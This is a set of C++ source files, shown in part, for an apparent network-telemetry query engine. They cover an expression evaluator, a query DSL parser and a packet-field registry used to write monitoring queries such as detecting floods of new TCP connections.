    case BinOp::kBitAnd: return a & b;
    case BinOp::kBitOr: return a | b;
    case BinOp::kShl: return b >= 64 ? 0 : a << b;
    case BinOp::kShr: return b >= 64 ? 0 : a >> b;
    case BinOp::kEq: return a == b;
    case BinOp::kNe: return a != b;
    case BinOp::kLt: return a < b;
    case BinOp::kLe: return a <= b;
    case BinOp::kGt: return a > b;
    case BinOp::kGe: return a >= b;
    case BinOp::kAnd: return (a != 0 && b != 0) ? 1 : 0;
    case BinOp::kOr: return (a != 0 || b != 0) ? 1 : 0;
  }
  return 0;
}

}  // namespace

std::string_view to_string(BinOp op) noexcept {
  switch (op) {
    case BinOp::kAdd: return "+";
    case BinOp::kSub: return "-";
    case BinOp::kMul: return "*";
    case BinOp::kDiv: return "/";
    case BinOp::kMod: return "%";
    case BinOp::kBitAnd: return "&";
    case BinOp::kBitOr: return "|";
    case BinOp::kShl: return "<<";
    case BinOp::kShr: return ">>";
    case BinOp::kEq: return "==";
    case BinOp::kNe: return "!=";
    case BinOp::kLt: return "<";
    case BinOp::kLe: return "<=";
    case BinOp::kGt: return ">";
    case BinOp::kGe: return ">=";
    case BinOp::kAnd: return "&&";
    case BinOp::kOr: return "||";
  }
  return "?";
}

ExprPtr Expr::column(std::string name) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kCol;
  e->col = std::move(name);
  return e;
}

ExprPtr Expr::lit(std::uint64_t v) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kConst;
  e->constant = Value{v};
  return e;
}

ExprPtr Expr::lit(std::string s) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kConst;
  e->constant = Value{std::move(s)};
  return e;
}

ExprPtr Expr::bin(BinOp op, ExprPtr l, ExprPtr r) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kBin;
  e->op = op;
  e->lhs = std::move(l);
  e->rhs = std::move(r);
  return e;
}

ExprPtr Expr::ip_prefix(ExprPtr a, int bits) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kIpPrefix;
  e->arg = std::move(a);
  e->level = bits;
  return e;
}

ExprPtr Expr::dns_prefix(ExprPtr a, int labels) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kDnsPrefix;
  e->arg = std::move(a);
  e->level = labels;
  return e;
}

ExprPtr Expr::payload_contains(ExprPtr a, std::string keyword) {
  auto e = std::make_shared<Expr>();
  e->kind = Kind::kPayloadContains;
  e->arg = std::move(a);
  e->keyword = std::move(keyword);
  return e;
}

std::string Expr::validate(const Schema& schema) const {
  switch (kind) {
    case Kind::kCol:
      if (!schema.index_of(col)) return "unknown column: " + col;
      return {};
    case Kind::kConst:
      return {};
    case Kind::kBin: {
      if (!lhs || !rhs) return "binary expression with null operand";
      if (auto err = lhs->validate(schema); !err.empty()) return err;
      if (auto err = rhs->validate(schema); !err.empty()) return err;
      const bool lstr = lhs->result_kind(schema) == ValueKind::kString;
      const bool rstr = rhs->result_kind(schema) == ValueKind::kString;
      if (is_comparison(op)) {
        if (lstr != rstr) return "comparison between string and numeric";
        return {};
      }
      if (lstr || rstr) return "arithmetic on string operand";
      return {};
    }
    case Kind::kIpPrefix:
      if (!arg) return "ip_prefix with null argument";
      if (auto err = arg->validate(schema); !err.empty()) return err;
      if (arg->result_kind(schema) != ValueKind::kUint) return "ip_prefix on string";
      if (level < 0 || level > 32) return "ip_prefix level out of range";
      return {};
    case Kind::kDnsPrefix:
      if (!arg) return "dns_prefix with null argument";
      if (auto err = arg->validate(schema); !err.empty()) return err;
      if (arg->result_kind(schema) != ValueKind::kString) return "dns_prefix on numeric";
      if (level < 0) return "dns_prefix level out of range";
      return {};
    case Kind::kPayloadContains:
      if (!arg) return "payload_contains with null argument";
      if (auto err = arg->validate(schema); !err.empty()) return err;
      if (arg->result_kind(schema) != ValueKind::kString) return "payload_contains on numeric";
      return {};
  }
  return "corrupt expression";
}

ValueKind Expr::result_kind(const Schema& schema) const {
  switch (kind) {
    case Kind::kCol: {
      const auto idx = schema.index_of(col);
      return idx ? schema.at(*idx).kind : ValueKind::kUint;
    }
    case Kind::kConst:
      return constant.kind();
    case Kind::kBin:
      return ValueKind::kUint;  // comparisons/arithmetic yield numbers
    case Kind::kIpPrefix:
      return ValueKind::kUint;
    case Kind::kDnsPrefix:
      return ValueKind::kString;
    case Kind::kPayloadContains:
      return ValueKind::kUint;
  }
  return ValueKind::kUint;
}

int Expr::result_bits(const Schema& schema) const {
  switch (kind) {
    case Kind::kCol: {
      const auto idx = schema.index_of(col);
      return idx ? schema.at(*idx).bits : 32;
    }
    case Kind::kConst: {
      if (constant.is_string()) return 256;
      const std::uint64_t v = constant.as_uint();
      const int w = 64 - std::countl_zero(v | 1);
      return std::max(w, 1);
    }
    case Kind::kBin:
      if (is_comparison(op) || is_logical(op)) return 1;
      return std::max(lhs->result_bits(schema), rhs->result_bits(schema));
    case Kind::kIpPrefix:
      return 32;  // masked addresses stay full width in metadata
    case Kind::kDnsPrefix:
      return arg->result_bits(schema);
    case Kind::kPayloadContains:
      return 1;
  }
  return 32;
}

bool Expr::switch_compilable(const Schema& schema) const {
  switch (kind) {
    case Kind::kCol: {
      const auto idx = schema.index_of(col);
      if (!idx) return false;
      // Columns with no metadata budget (payloads) never enter the PHV.
      return schema.at(*idx).bits > 0;
    }
    case Kind::kConst:
      return true;
    case Kind::kBin: {
      if (!lhs->switch_compilable(schema) || !rhs->switch_compilable(schema)) return false;
      switch (op) {
        case BinOp::kDiv:
        case BinOp::kMod:
        case BinOp::kMul:
          // Only powers of two (a shift / mask in the ALU); real division
          // is not available in PISA ALUs (paper §2.2, Slowloris example).
          return rhs->kind == Kind::kConst && rhs->constant.is_uint() &&
                 std::has_single_bit(rhs->constant.as_uint());
        default:
          return true;
      }
    }
    case Kind::kIpPrefix:
      return arg->switch_compilable(schema);
    case Kind::kDnsPrefix:
      // Label truncation is performed by the programmable parser when it
      // extracts the name, so it is available wherever the name itself is.
      return arg->switch_compilable(schema);
    case Kind::kPayloadContains:
      return false;  // payload scans only at the stream processor
  }
  return false;
}

std::string Expr::to_string() const {
  switch (kind) {
    case Kind::kCol:
      return col;
    case Kind::kConst:
      return constant.is_string() ? "'" + constant.to_string() + "'" : constant.to_string();
    case Kind::kBin:
      return "(" + lhs->to_string() + " " + std::string(query::to_string(op)) + " " +
             rhs->to_string() + ")";
    case Kind::kIpPrefix:
      return arg->to_string() + "/" + std::to_string(level);
    case Kind::kDnsPrefix:
      return arg->to_string() + "@" + std::to_string(level);
    case Kind::kPayloadContains:
      return arg->to_string() + ".contains('" + keyword + "')";
  }
  return "?";
}

void Expr::collect_columns(std::vector<std::string>& out) const {
  switch (kind) {
    case Kind::kCol:
      out.push_back(col);
      break;
    case Kind::kConst:
      break;
    case Kind::kBin:
      if (lhs) lhs->collect_columns(out);
      if (rhs) rhs->collect_columns(out);
      break;
    case Kind::kIpPrefix:
    case Kind::kDnsPrefix:
    case Kind::kPayloadContains:
      if (arg) arg->collect_columns(out);
      break;
  }
}

Expr::Evaluator Expr::bind(const Schema& schema) const {
  switch (kind) {
    case Kind::kCol: {
      const auto idx = schema.index_of(col);
      const std::size_t i = idx.value_or(0);
      return [i](const Tuple& t) { return t.at(i); };
    }
    case Kind::kConst: {
      const Value v = constant;
      return [v](const Tuple&) { return v; };
    }
    case Kind::kBin: {
      auto l = lhs->bind(schema);
      auto r = rhs->bind(schema);
      const BinOp o = op;
      if (is_comparison(o)) {
        return [l = std::move(l), r = std::move(r), o](const Tuple& t) -> Value {
          const Value a = l(t);
          const Value b = r(t);
          if (a.is_string() || b.is_string()) {
            const bool eq = a == b;
            bool res = false;
            switch (o) {
              case BinOp::kEq: res = eq; break;
              case BinOp::kNe: res = !eq; break;
              case BinOp::kLt: res = a < b; break;
              case BinOp::kLe: res = a < b || eq; break;
              case BinOp::kGt: res = b < a; break;
              case BinOp::kGe: res = b < a || eq; break;
              default: break;
            }
            return Value{static_cast<std::uint64_t>(res)};
          }
          return Value{apply_bin(o, a.as_uint(), b.as_uint())};
        };
      }
      return [l = std::move(l), r = std::move(r), o](const Tuple& t) -> Value {
        return Value{apply_bin(o, l(t).as_uint(), r(t).as_uint())};
      };
    }
    case Kind::kIpPrefix: {
      auto a = arg->bind(schema);
      const int bits = level;
      return [a = std::move(a), bits](const Tuple& t) -> Value {
        return Value{static_cast<std::uint64_t>(
            util::ipv4_prefix(static_cast<std::uint32_t>(a(t).as_uint()), bits))};
      };
    }
    case Kind::kDnsPrefix: {
      auto a = arg->bind(schema);
      const auto labels = static_cast<std::size_t>(level);
      return [a = std::move(a), labels](const Tuple& t) -> Value {
        return Value{net::dns_name_prefix(a(t).as_string(), labels)};
      };
    }
    case Kind::kPayloadContains: {
      auto a = arg->bind(schema);
      const std::string kw = keyword;
      return [a = std::move(a), kw](const Tuple& t) -> Value {
        const bool hit = a(t).as_string().find(kw) != std::string_view::npos;
        return Value{static_cast<std::uint64_t>(hit)};
      };
    }
  }
  return [](const Tuple&) { return Value{std::uint64_t{0}}; };
}

}  // namespace sonata::query
