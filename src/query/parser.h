// Text front-end for the query DSL: parse queries from the declarative
// syntax the paper uses, so operators can keep telemetry queries in plain
// files (see tools/sonata_run).
//
//   # Detect hosts with too many newly opened TCP connections (Query 1).
//   query newly_opened_tcp id 1 window 3s {
//     packetStream
//       .filter(proto == 6 && tcp.flags == 2)
//       .map(dIP = dIP, count = 1)
//       .reduce(keys=(dIP), sum(count))
//       .filter(count > 1000)
//   }
//
// Joins nest a packetStream as the second argument:
//
//   .join(keys=(dIP), packetStream.filter(...).reduce(...))
//
// Expressions support || && == != < <= > >= + - * / % & literals
// (integers, 'strings'), dotted field names, and the built-ins
// contains(col, 'word'), prefix(col, bits), labels(col, n).
// `refinable false` opts a query out of dynamic refinement.
//
// `state` picks the keyed-state engine for the query (default exact):
//
//   query superspreader id 2 window 3s state sketch(eps=0.02, delta=0.01) { ... }
//
// `sketch(...)` accepts eps / delta (decimals in (0,1)), capacity=N
// (expected distinct keys, sizes membership filters), cm | cs
// (count-min vs count-sketch for reduce), bloom | cuckoo (membership
// filter for distinct). See query/state_spec.h for the semantics.
//
// Multi-tenant files declare switch budgets at top level and tag queries:
//
//   tenant ops budget stages=8 bits=1048576
//   query suspicious_dns id 7 window 3s tenant ops { ... }
//
// `stages` caps the tenant's switch stage tables, `bits` its register
// bits; either may be omitted (= unlimited). Untagged queries belong to
// the unlimited default tenant.
#pragma once

#include <cstdint>
#include <limits>
#include <string>
#include <string_view>
#include <vector>

#include "query/query.h"

namespace sonata::query {

struct ParseError {
  std::string message;
  int line = 0;
  int column = 0;

  [[nodiscard]] std::string to_string() const {
    return "line " + std::to_string(line) + ":" + std::to_string(column) + ": " + message;
  }
};

// Top-level `tenant` declaration: a named switch-resource budget. The
// query layer has no planner dependency, so budgets are plain numbers
// here; kNoTenantLimit marks an omitted (unlimited) dimension. Callers
// map these onto planner::TenantBudget.
inline constexpr std::uint64_t kNoTenantLimit = std::numeric_limits<std::uint64_t>::max();

struct TenantDecl {
  std::string name;
  std::uint64_t stage_tables = kNoTenantLimit;
  std::uint64_t register_bits = kNoTenantLimit;
  int line = 0;
};

struct ParseResult {
  std::vector<Query> queries;  // validated
  // queries[i] belongs to tenant query_tenants[i] ("" = default tenant).
  std::vector<std::string> query_tenants;
  std::vector<TenantDecl> tenants;
  std::vector<ParseError> errors;

  [[nodiscard]] bool ok() const noexcept { return errors.empty(); }
};

// Parse a whole file (any number of `query` blocks).
[[nodiscard]] ParseResult parse_queries(std::string_view text);

// Parse a single expression against a schema (used by tests and tools).
struct ExprParseResult {
  ExprPtr expr;  // null on error
  std::vector<ParseError> errors;
};
[[nodiscard]] ExprParseResult parse_expression(std::string_view text);

}  // namespace sonata::query
