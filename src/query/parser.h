// Text front-end for the query DSL: parse queries from the declarative
// syntax the paper uses, so operators can keep telemetry queries in plain
// files (see tools/sonata_run).
//
//   # Detect hosts with too many newly opened TCP connections (Query 1).
//   query newly_opened_tcp id 1 window 3s {
//     packetStream
//       .filter(proto == 6 && tcp.flags == 2)
//       .map(dIP = dIP, count = 1)
//       .reduce(keys=(dIP), sum(count))
//       .filter(count > 1000)
//   }
//
// Joins nest a packetStream as the second argument:
//
//   .join(keys=(dIP), packetStream.filter(...).reduce(...))
//
// Expressions support || && == != < <= > >= + - * / % & literals
// (integers, 'strings'), dotted field names, and the built-ins
// contains(col, 'word'), prefix(col, bits), labels(col, n).
// `refinable false` opts a query out of dynamic refinement.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "query/query.h"

namespace sonata::query {

struct ParseError {
  std::string message;
  int line = 0;
  int column = 0;

  [[nodiscard]] std::string to_string() const {
    return "line " + std::to_string(line) + ":" + std::to_string(column) + ": " + message;
  }
};

struct ParseResult {
  std::vector<Query> queries;  // validated
  std::vector<ParseError> errors;

  [[nodiscard]] bool ok() const noexcept { return errors.empty(); }
};

// Parse a whole file (any number of `query` blocks).
[[nodiscard]] ParseResult parse_queries(std::string_view text);

// Parse a single expression against a schema (used by tests and tools).
struct ExprParseResult {
  ExprPtr expr;  // null on error
  std::vector<ParseError> errors;
};
[[nodiscard]] ExprParseResult parse_expression(std::string_view text);

}  // namespace sonata::query
