#include "query/value.h"

namespace sonata::query {

std::string Value::to_string() const {
  if (is_uint()) return std::to_string(as_uint());
  return std::string(as_string());
}

}  // namespace sonata::query
