// Extensible packet-field registry (the "extensible tuple abstraction" of
// paper §2.1).
//
// A field maps a dotted name (e.g. "ipv4.dIP", "dns.rr.name") to an
// accessor over the parsed Packet, a value kind, a metadata bit width, and
// whether the switch's reconfigurable parser can extract it. Queries
// reference fields by name; the planner uses `switch_parseable` and `bits`
// to decide what the data plane can touch and to account PHV budget.
//
// Operators can register custom fields (e.g. in-band telemetry metadata)
// at startup; the built-in set covers the standard protocols.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "net/packet.h"
#include "query/tuple.h"
#include "query/value.h"

namespace sonata::query {

// Extracts a field value from a packet; nullopt when the field does not
// apply (e.g. tcp.flags on a UDP packet) — tuples then carry 0/"".
using FieldAccessor = std::function<std::optional<Value>(const net::Packet&)>;

// Built-in fields carry a tag so the materialization hot path can extract
// them through a direct switch instead of a std::function call per field
// per packet; custom fields (kNone) always go through their accessor.
enum class BuiltinField : std::uint8_t {
  kNone = 0,
  kSrcIp,
  kDstIp,
  kSrcPort,
  kDstPort,
  kProto,
  kTcpFlags,
  kPktLen,
  kPayloadLen,
  kTtl,
  kPayload,
  kDnsQname,
  kDnsQtype,
  kDnsAnCount,
  kDnsIsResponse,
};

struct FieldDef {
  std::string name;
  ValueKind kind = ValueKind::kUint;
  int bits = 32;                // metadata width on the switch
  bool switch_parseable = true; // can the PISA parser extract it?
  // Hierarchical fields can serve as refinement keys (paper §4.1):
  // IPv4 addresses refine by prefix length, DNS names by label count.
  bool hierarchical = false;
  FieldAccessor accessor;
  BuiltinField builtin = BuiltinField::kNone;  // set only by the registry ctor
};

class FieldRegistry {
 public:
  // The process-wide registry, pre-populated with the built-in fields.
  static FieldRegistry& instance();

  // Registers a custom field; returns false (and ignores the call) if a
  // field with the same name exists.
  bool register_field(FieldDef def);

  [[nodiscard]] const FieldDef* find(std::string_view name) const noexcept;
  [[nodiscard]] const std::vector<FieldDef>& fields() const noexcept { return fields_; }

  // Extract one field from a packet, defaulting non-applicable values.
  [[nodiscard]] Value extract(const FieldDef& def, const net::Packet& p) const;

  // True while the registry holds exactly the built-in fields in their
  // canonical order (no custom registrations). The batched extraction fast
  // paths key off this; a custom field flips every caller back to the
  // general per-field accessor walk.
  [[nodiscard]] bool canonical() const noexcept { return canonical_; }

 private:
  FieldRegistry();
  std::vector<FieldDef> fields_;
  bool canonical_ = true;
};

// Materialize the full source tuple for a packet: one value per registered
// field, in registry order (matching query::source_schema()).
[[nodiscard]] Tuple materialize_tuple(const net::Packet& p,
                                      const FieldRegistry& registry = FieldRegistry::instance());

// In-place variant for the batched data path: overwrites `out`, reusing its
// value storage, so a warm tuple slot materializes with zero allocations.
void materialize_tuple_into(const net::Packet& p, Tuple& out,
                            const FieldRegistry& registry = FieldRegistry::instance());

// Straight-line store of the canonical built-in fields into `v` (which must
// hold 14 warm Value slots in registry order). Only valid while
// FieldRegistry::instance().canonical() is true; pisa's batched extractor
// shares it for chunk tails and the scalar dispatch level.
void materialize_builtin_fields(const net::Packet& p, Value* v) noexcept;

// Built-in field names (kept short, mirroring the paper's query syntax).
namespace fields {
inline constexpr std::string_view kSrcIp = "sIP";
inline constexpr std::string_view kDstIp = "dIP";
inline constexpr std::string_view kSrcPort = "sPort";
inline constexpr std::string_view kDstPort = "dPort";
inline constexpr std::string_view kProto = "proto";
inline constexpr std::string_view kTcpFlags = "tcp.flags";
inline constexpr std::string_view kPktLen = "pktlen";      // IP total length
inline constexpr std::string_view kPayloadLen = "nBytes";  // payload bytes
inline constexpr std::string_view kTtl = "ttl";
inline constexpr std::string_view kPayload = "payload";        // stream-only
inline constexpr std::string_view kDnsQname = "dns.rr.name";
inline constexpr std::string_view kDnsQtype = "dns.qtype";
inline constexpr std::string_view kDnsAnCount = "dns.ancount";
inline constexpr std::string_view kDnsIsResponse = "dns.qr";
}  // namespace fields

}  // namespace sonata::query
