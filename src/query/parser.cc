#include "query/parser.h"

#include <cctype>
#include <charconv>
#include <optional>

namespace sonata::query {

namespace {

enum class Tok : std::uint8_t {
  kEnd, kIdent, kNumber, kString,
  kLParen, kRParen, kLBrace, kRBrace, kComma, kDot, kAssign,
  kOrOr, kAndAnd, kEq, kNe, kLt, kLe, kGt, kGe,
  kPlus, kMinus, kStar, kSlash, kPercent, kAmp,
};

struct Token {
  Tok kind = Tok::kEnd;
  std::string text;        // ident (dotted) or string contents
  std::uint64_t number = 0;
  double real = 0.0;       // valid when is_real (e.g. "0.01")
  bool is_real = false;
  int line = 1;
  int column = 1;
};

class Lexer {
 public:
  explicit Lexer(std::string_view text) : text_(text) { advance(); }

  [[nodiscard]] const Token& peek() const noexcept { return current_; }

  Token take() {
    Token t = current_;
    advance();
    return t;
  }

  [[nodiscard]] std::vector<ParseError>& errors() noexcept { return errors_; }

 private:
  void error(const std::string& msg) { errors_.push_back({msg, line_, column_}); }

  char look(std::size_t ahead = 0) const {
    return pos_ + ahead < text_.size() ? text_[pos_ + ahead] : '\0';
  }

  void bump() {
    if (pos_ >= text_.size()) return;
    if (text_[pos_] == '\n') {
      ++line_;
      column_ = 1;
    } else {
      ++column_;
    }
    ++pos_;
  }

  void skip_ws_and_comments() {
    for (;;) {
      while (pos_ < text_.size() && std::isspace(static_cast<unsigned char>(look()))) bump();
      if (look() == '#') {
        while (pos_ < text_.size() && look() != '\n') bump();
        continue;
      }
      return;
    }
  }

  void advance() {
    skip_ws_and_comments();
    current_ = Token{};
    current_.line = line_;
    current_.column = column_;
    const char c = look();
    if (c == '\0') {
      current_.kind = Tok::kEnd;
      return;
    }
    if (std::isalpha(static_cast<unsigned char>(c)) || c == '_') {
      // Dotted identifier: tcp.flags, dns.rr.name. A dot is part of the
      // identifier only when followed by an alphanumeric AND not starting a
      // dataflow operator keyword chain (".filter(") — operators always
      // follow whitespace or ')' in practice, so we join dots greedily but
      // back off when the next segment is an operator name followed by '('.
      std::string ident;
      for (;;) {
        while (std::isalnum(static_cast<unsigned char>(look())) || look() == '_') {
          ident.push_back(look());
          bump();
        }
        if (look() == '.' &&
            (std::isalpha(static_cast<unsigned char>(look(1))) || look(1) == '_')) {
          // Lookahead: is the next segment an operator invocation?
          std::size_t j = pos_ + 1;
          std::string seg;
          while (j < text_.size() && (std::isalnum(static_cast<unsigned char>(text_[j])) ||
                                      text_[j] == '_')) {
            seg.push_back(text_[j]);
            ++j;
          }
          const bool op_like = j < text_.size() && text_[j] == '(' &&
                               (seg == "filter" || seg == "map" || seg == "distinct" ||
                                seg == "reduce" || seg == "join");
          if (op_like) break;
          ident.push_back('.');
          bump();  // consume '.'
          continue;
        }
        break;
      }
      current_.kind = Tok::kIdent;
      current_.text = std::move(ident);
      return;
    }
    if (std::isdigit(static_cast<unsigned char>(c))) {
      std::uint64_t value = 0;
      const char* begin = text_.data() + pos_;
      const char* end = text_.data() + text_.size();
      const auto [next, ec] = std::from_chars(begin, end, value);
      if (ec != std::errc{}) error("bad number");
      while (text_.data() + pos_ < next) bump();
      // Decimal literal (0.01): a '.' followed by a digit extends the
      // number. Used by the `state sketch(eps=.., delta=..)` annotation;
      // expression literals stay integral.
      if (look() == '.' && std::isdigit(static_cast<unsigned char>(look(1)))) {
        double real = 0.0;
        const auto [rnext, rec] = std::from_chars(begin, end, real);
        if (rec != std::errc{}) error("bad decimal number");
        while (text_.data() + pos_ < rnext) bump();
        current_.kind = Tok::kNumber;
        current_.number = value;
        current_.real = real;
        current_.is_real = true;
        return;
      }
      // Time suffix "s" handled by the query-header parser via idents; a
      // bare trailing 's' binds to the number (e.g. "3s").
      if (look() == 's') {
        current_.text = "s";
        bump();
      }
      current_.kind = Tok::kNumber;
      current_.number = value;
      return;
    }
    if (c == '\'') {
      bump();
      std::string s;
      while (look() != '\'' && look() != '\0') {
        s.push_back(look());
        bump();
      }
      if (look() != '\'') {
        error("unterminated string literal");
      } else {
        bump();
      }
      current_.kind = Tok::kString;
      current_.text = std::move(s);
      return;
    }
    auto two = [&](char a, char b, Tok t) {
      if (look() == a && look(1) == b) {
        bump();
        bump();
        current_.kind = t;
        return true;
      }
      return false;
    };
    if (two('|', '|', Tok::kOrOr) || two('&', '&', Tok::kAndAnd) || two('=', '=', Tok::kEq) ||
        two('!', '=', Tok::kNe) || two('<', '=', Tok::kLe) || two('>', '=', Tok::kGe)) {
      return;
    }
    bump();
    switch (c) {
      case '(': current_.kind = Tok::kLParen; return;
      case ')': current_.kind = Tok::kRParen; return;
      case '{': current_.kind = Tok::kLBrace; return;
      case '}': current_.kind = Tok::kRBrace; return;
      case ',': current_.kind = Tok::kComma; return;
      case '.': current_.kind = Tok::kDot; return;
      case '=': current_.kind = Tok::kAssign; return;
      case '<': current_.kind = Tok::kLt; return;
      case '>': current_.kind = Tok::kGt; return;
      case '+': current_.kind = Tok::kPlus; return;
      case '-': current_.kind = Tok::kMinus; return;
      case '*': current_.kind = Tok::kStar; return;
      case '/': current_.kind = Tok::kSlash; return;
      case '%': current_.kind = Tok::kPercent; return;
      case '&': current_.kind = Tok::kAmp; return;
      default:
        error(std::string("unexpected character '") + c + "'");
        current_.kind = Tok::kEnd;
        return;
    }
  }

  std::string_view text_;
  std::size_t pos_ = 0;
  int line_ = 1;
  int column_ = 1;
  Token current_;
  std::vector<ParseError> errors_;
};

class Parser {
 public:
  explicit Parser(std::string_view text) : lex_(text) {}

  ParseResult parse_file() {
    ParseResult result;
    while (lex_.peek().kind != Tok::kEnd && errors_.empty()) {
      if (lex_.peek().kind == Tok::kIdent && lex_.peek().text == "tenant") {
        if (auto t = parse_tenant_decl()) result.tenants.push_back(std::move(*t));
        continue;
      }
      std::string tenant;
      if (auto q = parse_query(&tenant)) {
        result.queries.push_back(std::move(*q));
        result.query_tenants.push_back(std::move(tenant));
      }
    }
    // Per-query tenant tags must resolve to a declaration.
    for (std::size_t i = 0; i < result.query_tenants.size(); ++i) {
      const std::string& t = result.query_tenants[i];
      if (t.empty()) continue;
      bool known = false;
      for (const auto& d : result.tenants) known = known || d.name == t;
      if (!known) {
        errors_.push_back({"query '" + result.queries[i].name() + "' references undeclared tenant '" +
                               t + "'",
                           0, 0});
      }
    }
    result.errors = std::move(errors_);
    for (const auto& e : lex_.errors()) result.errors.push_back(e);
    if (!result.errors.empty()) {
      result.queries.clear();
      result.query_tenants.clear();
      result.tenants.clear();
    }
    return result;
  }

  ExprParseResult parse_single_expression() {
    ExprParseResult result;
    result.expr = parse_expr();
    if (lex_.peek().kind != Tok::kEnd) error("trailing input after expression");
    result.errors = std::move(errors_);
    for (const auto& e : lex_.errors()) result.errors.push_back(e);
    if (!result.errors.empty()) result.expr = nullptr;
    return result;
  }

 private:
  void error(const std::string& msg) {
    errors_.push_back({msg, lex_.peek().line, lex_.peek().column});
  }

  bool expect(Tok kind, const char* what) {
    if (lex_.peek().kind != kind) {
      error(std::string("expected ") + what);
      return false;
    }
    lex_.take();
    return true;
  }

  bool accept(Tok kind) {
    if (lex_.peek().kind != kind) return false;
    lex_.take();
    return true;
  }

  std::optional<std::string> expect_ident(const char* what) {
    if (lex_.peek().kind != Tok::kIdent) {
      error(std::string("expected ") + what);
      return std::nullopt;
    }
    return lex_.take().text;
  }

  // tenant NAME budget [stages=N] [bits=M]
  std::optional<TenantDecl> parse_tenant_decl() {
    TenantDecl decl;
    decl.line = lex_.peek().line;
    lex_.take();  // 'tenant'
    if (lex_.peek().kind == Tok::kString) {
      decl.name = lex_.take().text;
    } else {
      const auto name = expect_ident("tenant name");
      if (!name) return std::nullopt;
      decl.name = *name;
    }
    if (decl.name.empty()) {
      error("tenant name must be non-empty");
      return std::nullopt;
    }
    const auto kw = expect_ident("'budget'");
    if (!kw || *kw != "budget") {
      error("expected 'budget'");
      return std::nullopt;
    }
    bool any = false;
    while (lex_.peek().kind == Tok::kIdent &&
           (lex_.peek().text == "stages" || lex_.peek().text == "bits")) {
      const std::string dim = lex_.take().text;
      if (!expect(Tok::kAssign, "'='")) return std::nullopt;
      if (lex_.peek().kind != Tok::kNumber) {
        error("expected a number for budget '" + dim + "'");
        return std::nullopt;
      }
      const std::uint64_t v = lex_.take().number;
      (dim == "stages" ? decl.stage_tables : decl.register_bits) = v;
      any = true;
    }
    if (!any) {
      error("tenant budget needs at least one of stages=N, bits=M");
      return std::nullopt;
    }
    return decl;
  }

  // state exact | state sketch([eps=E][, delta=D][, capacity=N][, cm|cs][, bloom|cuckoo])
  bool parse_state_spec(StateSpec* spec) {
    const auto v = expect_ident("'exact' or 'sketch'");
    if (!v) return false;
    if (*v == "exact") {
      *spec = StateSpec{};
      return true;
    }
    if (*v != "sketch") {
      error("state must be 'exact' or 'sketch(...)'");
      return false;
    }
    spec->kind = StateSpec::Kind::kSketch;
    if (!accept(Tok::kLParen)) return true;  // defaults
    if (!accept(Tok::kRParen)) {
      do {
        const auto param = expect_ident("sketch parameter");
        if (!param) return false;
        if (*param == "eps" || *param == "delta") {
          if (!expect(Tok::kAssign, "'='")) return false;
          if (lex_.peek().kind != Tok::kNumber) {
            error("expected a number for '" + *param + "'");
            return false;
          }
          const Token t = lex_.take();
          const double value = t.is_real ? t.real : static_cast<double>(t.number);
          if (!(value > 0.0) || !(value < 1.0)) {
            error("'" + *param + "' must be in (0, 1)");
            return false;
          }
          (*param == "eps" ? spec->eps : spec->delta) = value;
        } else if (*param == "capacity") {
          if (!expect(Tok::kAssign, "'='")) return false;
          if (lex_.peek().kind != Tok::kNumber || lex_.peek().is_real) {
            error("expected an integer for 'capacity'");
            return false;
          }
          spec->capacity = lex_.take().number;
          if (spec->capacity == 0) {
            error("'capacity' must be positive");
            return false;
          }
        } else if (*param == "cm") {
          spec->family = StateSpec::Family::kCountMin;
        } else if (*param == "cs") {
          spec->family = StateSpec::Family::kCountSketch;
        } else if (*param == "bloom") {
          spec->membership = StateSpec::Membership::kBloom;
        } else if (*param == "cuckoo") {
          spec->membership = StateSpec::Membership::kCuckoo;
        } else {
          error("unknown sketch parameter '" + *param +
                "' (want eps, delta, capacity, cm, cs, bloom, cuckoo)");
          return false;
        }
      } while (accept(Tok::kComma));
      if (!expect(Tok::kRParen, "')'")) return false;
    }
    return true;
  }

  // query NAME id N [window Ns] [refinable true|false] [tenant NAME]
  //   [state exact|sketch(...)] { STREAM }
  std::optional<Query> parse_query(std::string* tenant) {
    const auto kw = expect_ident("'query'");
    if (!kw || *kw != "query") {
      error("expected 'query'");
      return std::nullopt;
    }
    const auto name = expect_ident("query name");
    if (!name) return std::nullopt;

    QueryId qid = 0;
    util::Nanos window = util::seconds(3);
    bool refinable = true;
    StateSpec state;
    for (;;) {
      if (lex_.peek().kind != Tok::kIdent) break;
      const std::string attr = lex_.peek().text;
      if (attr == "id") {
        lex_.take();
        if (lex_.peek().kind != Tok::kNumber) {
          error("expected query id number");
          return std::nullopt;
        }
        qid = static_cast<QueryId>(lex_.take().number);
      } else if (attr == "window") {
        lex_.take();
        if (lex_.peek().kind != Tok::kNumber) {
          error("expected window duration (e.g. 3s)");
          return std::nullopt;
        }
        const Token t = lex_.take();
        if (t.text != "s") error("window duration must use the 's' suffix");
        window = util::seconds(static_cast<double>(t.number));
      } else if (attr == "refinable") {
        lex_.take();
        const auto v = expect_ident("true or false");
        if (!v) return std::nullopt;
        if (*v != "true" && *v != "false") {
          error("refinable must be true or false");
          return std::nullopt;
        }
        refinable = *v == "true";
      } else if (attr == "tenant") {
        lex_.take();
        if (lex_.peek().kind == Tok::kString) {
          *tenant = lex_.take().text;
        } else {
          const auto v = expect_ident("tenant name");
          if (!v) return std::nullopt;
          *tenant = *v;
        }
      } else if (attr == "state") {
        lex_.take();
        if (!parse_state_spec(&state)) return std::nullopt;
      } else {
        break;
      }
    }
    if (!expect(Tok::kLBrace, "'{'")) return std::nullopt;
    auto builder = parse_stream();
    if (!builder) return std::nullopt;
    if (!expect(Tok::kRBrace, "'}'")) return std::nullopt;

    Query q = std::move(*builder).build(*name, qid, window);
    q.set_refinable(refinable);
    q.set_state_spec(state);
    if (const auto err = q.validate(); !err.empty()) {
      error("query '" + *name + "' failed validation: " + err);
      return std::nullopt;
    }
    return q;
  }

  // packetStream (.OP)*
  std::optional<QueryBuilder> parse_stream() {
    const auto kw = expect_ident("'packetStream'");
    if (!kw || *kw != "packetStream") {
      error("expected 'packetStream'");
      return std::nullopt;
    }
    QueryBuilder builder = QueryBuilder::packet_stream();
